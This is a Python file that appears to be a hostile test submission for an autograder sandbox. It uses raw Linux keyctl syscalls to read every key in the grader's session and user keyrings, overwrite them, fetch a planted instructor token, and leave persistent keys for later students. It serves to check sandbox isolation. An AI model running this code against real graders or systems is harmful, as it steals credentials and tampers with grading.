"""Reach the grader's keyrings: read every key of the session keyring the worker was started with (the
instructor's login session: the test plants a token there), overwrite each, find the token by name, and add
keys of its own to the session keyring and to its user's keyring, which every process of the same uid
shares and which outlives the run (two students graded as nobody could pass data through it). All of this
worked: the worker inherited the grader's session keyring and possessed it. Nothing must be seen, changed or
added."""
import ctypes
import platform

# --- attack ---
ADD_KEY, REQUEST_KEY, KEYCTL = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
SESSION, USER = -3, -4
KEYCTL_UPDATE, KEYCTL_DESCRIBE, KEYCTL_READ = 2, 6, 11
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _call(number, *args):
    return _libc.syscall(ctypes.c_long(number), *[a if isinstance(a, (bytes, type(None))) else ctypes.c_long(a)
                                                   for a in args])


def _read(key, size=4096):
    buf = ctypes.create_string_buffer(size)
    n = _call(KEYCTL, KEYCTL_READ, key, ctypes.addressof(buf), size)
    return buf.raw[:n] if n >= 0 else None


SEEN, CHANGED, ADDED = [], [], []
for keyring in (SESSION, USER):
    ids = _read(keyring) or b""
    for i in range(0, len(ids) - len(ids) % 4, 4):
        key = int.from_bytes(ids[i:i + 4], "little", signed=True)
        buf = ctypes.create_string_buffer(512)
        _call(KEYCTL, KEYCTL_DESCRIBE, key, ctypes.addressof(buf), 512)
        SEEN.append(f"{buf.value.decode(errors='replace')}={_read(key)!r}")
        if _call(KEYCTL, KEYCTL_UPDATE, key, b"overwritten by a student", 24) == 0:
            CHANGED.append(key)
found = _call(REQUEST_KEY, b"user", b"autograder-hostile-instructor-token", None, 0)
if found >= 0:
    SEEN.append(f"request_key found {found}: {_read(found)!r}")
for keyring in (SESSION, USER):
    if _call(ADD_KEY, b"user", b"student-drop", b"a message for the next student", 30, keyring) >= 0:
        ADDED.append(keyring)


def scaled_scores(Q, K):
    raise RuntimeError(f"keys seen {SEEN}, changed {CHANGED}, added to {ADDED}")
